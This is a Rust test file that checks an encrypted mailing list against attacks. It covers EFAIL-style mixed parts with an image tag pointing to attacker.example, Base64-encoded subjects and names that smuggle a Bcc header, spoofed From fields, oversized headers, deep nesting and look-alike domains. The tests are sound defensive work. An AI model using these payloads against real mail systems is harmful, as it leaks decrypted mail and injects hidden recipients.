//! What an attacker of an encrypted list would try, one test per case, built
//! with real gpg. Each asserts that nothing reached the members and, where a
//! notice is due, that it is the fixed one.

mod common;
use common::*;

use common::attack::*;

#[test]
fn efail_style_mixes_of_encrypted_and_plain_parts_are_refused() {
    let s = Scene::new();
    let armored = s.alice.sign_encrypt(client::text_entity(CANARY).as_bytes(), &s.list_key);
    for wrapper in ["mixed", "alternative", "related"] {
        let mail = client::lf(&format!(
            "{}Content-Type: multipart/{wrapper}; boundary=\"outer\"\r\n\r\n--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--outer\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n{armored}\r\n--enc--\r\n--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n",
            client::headers("alice@example.org", LIST, wrapper)
        ));
        let out = s.deliver(&mail);
        assert!(out.status.success());
        nothing_distributed(&s);
        no_canary_anywhere(&s, &[&out]);
        assert_last_decision(&s, "signed or encrypted parts inside an unsigned wrapper");
    }
    let rfc822 = client::lf(&format!(
        "{}Content-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n{armored}\r\n--enc--\r\n",
        client::headers("alice@example.org", LIST, "forwarded")
    ));
    assert!(s.deliver(&rfc822).status.success());
    nothing_distributed(&s);
    // A forwarded message is content, never the list's cryptography: this mail is not encrypted.
    assert_last_decision(&s, "not encrypted to the list key");
    // The control: the same encrypted part, as the root of the mail, goes out.
    assert!(s
        .deliver(&client::encrypted(&client::headers("alice@example.org", LIST, "plain"), &armored))
        .status
        .success());
    assert_eq!(s.posts_to(&s.bob).len(), 1, "{}", s.log());
}

#[test]
fn several_signatures_are_refused() {
    let s = Scene::new();
    // Alice signs, then Bob's signature is added over the same data: two signers.
    let entity = client::text_entity(CANARY);
    let sig_alice = s.alice.detach_sign(entity.as_bytes());
    let sig_bob = s.bob.detach_sign(entity.as_bytes());
    let signed = format!(
        "Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"s\"\r\n\r\n--s\r\n{}\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n{sig_alice}{sig_bob}\r\n--s--\r\n",
        client::text_entity(CANARY)
    );
    let armored = s.alice.encrypt(signed.as_bytes(), &s.list_key);
    let out = s.deliver(&client::encrypted(&client::headers("alice@example.org", LIST, "two"), &armored));
    assert!(out.status.success());
    nothing_distributed(&s);
    no_canary_anywhere(&s, &[&out]);
    assert_last_decision(&s, "a bad signature, or several signatures");
    // The control: the same mail with Alice's signature alone goes out.
    let alone = signed.replace(&sig_bob, "");
    let armored = s.alice.encrypt(alone.as_bytes(), &s.list_key);
    assert!(s
        .deliver(&client::encrypted(&client::headers("alice@example.org", LIST, "one"), &armored))
        .status
        .success());
    assert_eq!(s.posts_to(&s.bob).len(), 1, "{}", s.log());
}

#[test]
fn from_tricks_are_refused_or_defused() {
    let s = Scene::new();
    let entity = client::text_entity(CANARY);
    // Two From fields, and two mailboxes in one From.
    for from_lines in
        ["From: <alice@example.org>\r\nFrom: <bob@example.org>\r\n", "From: <alice@example.org>, <bob@example.org>\r\n"]
    {
        let armored = s.alice.sign_encrypt(entity.as_bytes(), &s.list_key);
        let headers = client::headers("alice@example.org", LIST, "from").replacen(
            "From: Sender <alice@example.org>\r\n",
            from_lines,
            1,
        );
        let out = s.deliver(&client::encrypted(&headers, &armored));
        assert!(out.status.success());
        nothing_distributed(&s);
        no_canary_anywhere(&s, &[&out]);
        assert!(s.admin_reports().iter().any(|r| r.contains("exactly one valid address")), "{:?}", s.admin_reports());
        s.w.clear_outbox();
    }
    // An address-like display name never reaches the members.
    let armored = s.alice.sign_encrypt(client::text_entity("display name test").as_bytes(), &s.list_key);
    let headers =
        client::headers("alice@example.org", LIST, "name").replacen("From: Sender <", "From: \"bob@example.org\" <", 1);
    assert!(s.deliver(&client::encrypted(&headers, &armored)).status.success());
    let copy = &s.posts_to(&s.carol)[0];
    assert!(!copy.header("From").unwrap().contains("bob@example.org"), "{:?}", copy.header("From"));
    let opened = s.carol.open_post(copy).unwrap();
    assert!(!opened.entity.lines().any(|l| l.starts_with("From:") && l.contains("bob@example.org")));
}

#[test]
fn encoded_line_breaks_in_subjects_never_make_headers() {
    let s = Scene::new();
    // "hi\r\nBcc: victim@example.net" encoded as RFC 2047.
    let subject = "=?utf-8?b?aGkNCkJjYzogdmljdGltQGV4YW1wbGUubmV0?=";
    let entity = format!("Content-Type: text/plain; charset=utf-8; protected-headers=\"v1\"\r\nFrom: <alice@example.org>\r\nTo: {LIST}\r\nSubject: {subject}\r\n\r\nbody\r\n");
    let out = s.deliver(&encrypted_from(&s, &s.alice, "alice@example.org", &entity));
    assert!(out.status.success());
    let copy = &s.posts_to(&s.bob)[0];
    let opened = s.bob.open_post(copy).unwrap();
    for text in [copy.text(), opened.entity.clone()] {
        assert!(
            !text.lines().any(|l| l.to_ascii_lowercase().starts_with("bcc:")),
            "a Bcc header was injected:\n{text}"
        );
    }
    assert!(s.w.mails_to("victim@example.net").is_empty());
}

#[test]
fn encoded_line_breaks_in_display_names_never_make_headers() {
    let s = Scene::new();
    // "Alice\r\nBcc: victim@example.net" encoded as RFC 2047, outside and inside the signature.
    let name = "=?utf-8?b?QWxpY2UNCkJjYzogdmljdGltQGV4YW1wbGUubmV0?=";
    let entity = format!("Content-Type: text/plain; charset=utf-8; protected-headers=\"v1\"\r\nFrom: {name} <alice@example.org>\r\nTo: {LIST}\r\nSubject: names\r\n\r\nbody\r\n");
    let armored = s.alice.sign_encrypt(entity.as_bytes(), &s.list_key);
    let headers =
        client::headers("alice@example.org", LIST, "names").replacen("From: Sender <", &format!("From: {name} <"), 1);
    let out = s.deliver(&client::encrypted(&headers, &armored));
    assert!(out.status.success(), "{}", stderr(&out));
    let copy = &s.posts_to(&s.bob)[0];
    let opened = s.bob.open_post(copy).unwrap();
    for text in [copy.text(), opened.entity.clone()] {
        let head = text.split("\r\n\r\n").next().unwrap().to_string();
        assert!(
            !head.lines().any(|l| l.to_ascii_lowercase().starts_with("bcc:")),
            "a Bcc header was injected:\n{head}"
        );
    }
    assert!(s.w.mails_to("victim@example.net").is_empty());
}

#[test]
fn loops_by_list_id_and_auto_replies_are_dropped_silently() {
    let s = Scene::new();
    for (extra, reason) in [
        ("List-Id: Crypto list <crypto.example.org>\r\n", "discarded: a mail loop (this list's X-Loop or List-Id)"),
        ("Auto-Submitted: auto-replied\r\n", "discarded: an auto-reply or bulk mail"),
        ("Precedence: bulk\r\n", "discarded: an auto-reply or bulk mail"),
    ] {
        let armored = s.alice.sign_encrypt(client::text_entity(CANARY).as_bytes(), &s.list_key);
        let headers = format!("{extra}{}", client::headers("alice@example.org", LIST, "auto"));
        let out = s.deliver(&client::encrypted(&headers, &armored));
        assert!(out.status.success());
        nothing_distributed(&s);
        assert!(s.w.mails().is_empty(), "no notice for {extra}");
        assert_last_decision(&s, reason);
    }
    // The control: the same mail without those headers goes out.
    let armored = s.alice.sign_encrypt(client::text_entity("a person wrote this").as_bytes(), &s.list_key);
    assert!(s
        .deliver(&client::encrypted(&client::headers("alice@example.org", LIST, "person"), &armored))
        .status
        .success());
    assert_eq!(s.posts_to(&s.bob).len(), 1, "{}", s.log());
}

#[test]
fn huge_headers_and_deep_nesting_are_handled_without_harm() {
    let s = Scene::new();
    // 100,000 header fields, and one header field of 2 MB: inject refuses them
    // (exit 65, the MTA bounces) before they are parsed, and nothing is queued.
    let many: String = (0..100_000).map(|i| format!("X-Filler-{i}: x\r\n")).collect();
    let long = format!("X-Long: {}\r\n", "x".repeat(2 << 20));
    for extra in [&many, &long] {
        let armored = s.alice.sign_encrypt(client::text_entity(CANARY).as_bytes(), &s.list_key);
        let headers = format!("{extra}{}", client::headers("alice@example.org", LIST, "many"));
        let started = std::time::Instant::now();
        let out = s.deliver(&client::encrypted(&headers, &armored));
        assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
        assert!(stderr(&out).contains("header section is larger"), "{}", stderr(&out));
        assert!(started.elapsed() < std::time::Duration::from_secs(30));
        let queue: serde_json::Value = serde_json::from_str(&s.w.ok(&["queue", "ls", LIST, "--json"])).unwrap();
        assert_eq!(queue.as_array().unwrap().len(), 0, "nothing queued");
        nothing_distributed(&s);
        no_canary_anywhere(&s, &[&out]);
    }
    // The same inside the encryption: refused by verify, unparsed.
    let inner = format!("{many}{}", client::text_entity(CANARY));
    refused_for(&s, &encrypted_from(&s, &s.alice, "alice@example.org", &inner), "larger headers");
    // Up to the limit, a post goes out, without the filler headers.
    let some: String = (0..900).map(|i| format!("X-Filler-{i}: x\r\n")).collect();
    let armored = s.alice.sign_encrypt(client::text_entity("many headers").as_bytes(), &s.list_key);
    let out = s.deliver(&client::encrypted(
        &format!("{some}{}", client::headers("alice@example.org", LIST, "some")),
        &armored,
    ));
    assert!(out.status.success(), "{}", stderr(&out));
    let copy = &s.posts_to(&s.bob)[0];
    assert!(!copy.text().contains("X-Filler"));
    s.w.clear_outbox();
    // 10,000 nested multiparts inside a properly signed and encrypted post.
    let mut nested = String::from("Content-Type: text/plain\r\n\r\ninnermost\r\n");
    for depth in 0..10_000 {
        nested = format!(
            "Content-Type: multipart/mixed; boundary=\"b{depth}\"\r\n\r\n--b{depth}\r\n{nested}\r\n--b{depth}--\r\n"
        );
    }
    refused_for(&s, &encrypted_from(&s, &s.alice, "alice@example.org", &nested), "deeper nesting");
}

#[test]
fn tampered_ciphertext_is_refused() {
    let s = Scene::new();
    let original = s.alice.gpg_pipe(
        &["--local-user", &s.alice.fingerprint(), "--recipient", &s.list_key, "--sign", "--encrypt"],
        client::text_entity(CANARY).as_bytes(),
    );
    let mut tampered = original.clone();
    let at = tampered.len() - 30;
    tampered[at] ^= 0x40; // inside the encrypted data: the integrity check (MDC) must catch it
    let out = s.deliver(&client::encrypted(
        &client::headers("alice@example.org", LIST, "tampered"),
        &s.alice.armor_message(&tampered),
    ));
    assert!(out.status.success(), "{}", stderr(&out));
    nothing_distributed(&s);
    no_canary_anywhere(&s, &[&out]);
    assert!(s.admin_reports().iter().any(|r| r.contains("not decryptable")), "{:?}", s.admin_reports());
    // The same message untouched, armored the same way, goes out: only the flipped bit made the difference.
    assert!(s
        .deliver(&client::encrypted(
            &client::headers("alice@example.org", LIST, "intact"),
            &s.alice.armor_message(&original)
        ))
        .status
        .success());
    assert!(s.bob.open_post(&s.posts_to(&s.bob)[0]).unwrap().text.contains(CANARY));
}

#[test]
fn ciphertext_for_another_list_on_the_same_host_is_refused() {
    let s = Scene::new();
    s.w.ok(&["list", "create", "other@example.org", "--admin", "alice@example.org", "--generate"]);
    // Alice signs and encrypts to whichever list's key is exported into the file.
    let post_to_key_of = |list: &str, subject: &str, text: &str| {
        let file = s.w.dir.path().join(format!("{list}.asc"));
        std::fs::write(&file, s.w.ok(&["list", "export-key", list])).unwrap();
        let me = s.alice.fingerprint();
        let args = ["--armor", "--local-user", &me, "--recipient-file", file.to_str().unwrap(), "--sign", "--encrypt"];
        let armored = String::from_utf8(s.alice.gpg_pipe(&args, client::text_entity(text).as_bytes())).unwrap();
        s.deliver(&client::encrypted(&client::headers("alice@example.org", LIST, subject), &armored))
    };
    let out = post_to_key_of("other@example.org", "elsewhere", CANARY);
    assert!(out.status.success());
    nothing_distributed(&s);
    assert!(s.admin_reports().iter().any(|r| r.contains("not decryptable")), "{:?}", s.admin_reports());
    // The control: the same construction, to this list's key, goes out.
    assert!(post_to_key_of(LIST, "here", "for this list").status.success());
    assert_eq!(s.posts_to(&s.bob).len(), 1, "{}", s.log());
    let _ = std::process::Command::new("gpgconf")
        .arg("--homedir")
        .arg(s.w.list_gnupg("other@example.org"))
        .args(["--kill", "gpg-agent"])
        .status();
}

#[test]
fn hidden_recipients_and_extra_recipients_do_not_matter_to_the_list() {
    // The list only needs to be among the recipients; whom else the sender
    // chose to encrypt to, or whether the key IDs are hidden, is theirs.
    let s = Scene::new();
    s.alice.import(&std::fs::read(s.carol.export(false)).unwrap());
    let armored = String::from_utf8(s.alice.gpg_pipe(
        &[
            "--armor",
            "--throw-keyids",
            "--local-user",
            &s.alice.fingerprint(),
            "--recipient",
            &s.list_key,
            "--recipient",
            &s.carol.fingerprint(),
            "--sign",
            "--encrypt",
        ],
        client::text_entity("hidden and shared").as_bytes(),
    ))
    .unwrap();
    assert!(s
        .deliver(&client::encrypted(&client::headers("alice@example.org", LIST, "hidden"), &armored))
        .status
        .success());
    let copies = s.posts_to(&s.bob);
    assert_eq!(copies.len(), 1);
    assert!(s.bob.open_post(&copies[0]).unwrap().text.contains("hidden and shared"));
}

#[test]
fn a_signature_from_300_days_ago_is_refused() {
    let s = Scene::new();
    let list_key = s.w.ok(&["list", "export-key", LIST]);
    let now = now();
    let stamp = |days: u64| format!("{}!", now - days * 86_400);
    let old = s.w.empty_person("old@example.org");
    old.gen_key_expiring("old@example.org", &["--faked-system-time", &stamp(400)], "never");
    let old = s.w.quick_member_of(old, &list_key);
    let entity = client::text_entity(CANARY);
    let signature = String::from_utf8(old.gpg_pipe(
        &["--faked-system-time", &stamp(300), "--armor", "--local-user", &old.fingerprint(), "--detach-sign"],
        entity.as_bytes(),
    ))
    .unwrap();
    let signed = format!(
        "Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"s\"\r\n\r\n--s\r\n{entity}\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n{signature}\r\n--s--\r\n"
    );
    let armored = old.encrypt(signed.as_bytes(), &s.list_key);
    let out = s.deliver(&client::encrypted(&client::headers("old@example.org", LIST, "old"), &armored));
    assert!(out.status.success());
    nothing_distributed(&s);
    no_canary_anywhere(&s, &[&out]);
    assert!(s.admin_reports().iter().any(|r| r.contains("older than max_signature_age")), "{:?}", s.admin_reports());
}

#[test]
fn look_alike_domains_are_strangers_and_idn_addresses_match_in_either_form() {
    let s = Scene::new();
    let list_key = s.w.ok(&["list", "export-key", LIST]);
    // "exаmple.org" with a Cyrillic "а": Mallory's address and key, written as UTF-8.
    let look_alike = "alice@ex\u{430}mple.org";
    let mallory = s.w.person(look_alike);
    mallory.import(list_key.as_bytes());
    let entity = client::text_entity(CANARY);
    let armored = mallory.sign_encrypt(entity.as_bytes(), &s.list_key);
    let headers = client::headers("alice@example.org", LIST, "idn").replacen(
        "From: Sender <alice@example.org>",
        &format!("From: Alice <{look_alike}>"),
        1,
    );
    refused_for(&s, &client::encrypted(&headers, &armored), "not a member");
    // Nobody adds such an address by accident.
    let key = mallory.export(false);
    let out = s.w.run(&["members", "add", LIST, look_alike, "--key-file", key.to_str().unwrap()]);
    assert_eq!(code(&out), 65, "{}", stderr(&out));
    assert!(stderr(&out).contains("may look like another address"), "{}", stderr(&out));
    s.w.ok(&["members", "add", LIST, look_alike, "--key-file", key.to_str().unwrap(), "--allow-look-alike"]);
    let listed = s.w.ok(&["members", "ls", LIST]);
    assert!(listed.contains("alice@xn--"), "stored as A-labels: {listed}");

    // A member of an internationalised domain, registered in Unicode, posts with an A-label From.
    s.w.clear_outbox();
    let juergen = s.w.person("juergen@b\u{fc}cher.example");
    let key = juergen.export(false);
    s.w.ok(&["members", "add", LIST, "juergen@b\u{fc}cher.example", "--key-file", key.to_str().unwrap()]);
    let challenge =
        s.w.mails_to("juergen@xn--bcher-kva.example").pop().expect("the challenge goes to the A-label form");
    let token = token_in(&juergen.decrypt(&challenge.armored()).plaintext);
    s.w.ok(&["keys", "verify", LIST, "juergen@xn--bcher-kva.example", &token]);
    juergen.import(list_key.as_bytes());
    s.w.clear_outbox();
    let armored = juergen.sign_encrypt(client::text_entity("Gr\u{fc}\u{df}e").as_bytes(), &s.list_key);
    let headers = client::headers("juergen@xn--bcher-kva.example", LIST, "idn member");
    assert!(s.deliver(&client::encrypted(&headers, &armored)).status.success());
    assert_eq!(s.posts_to(&s.bob).len(), 1, "the log:\n{}", s.log());
}
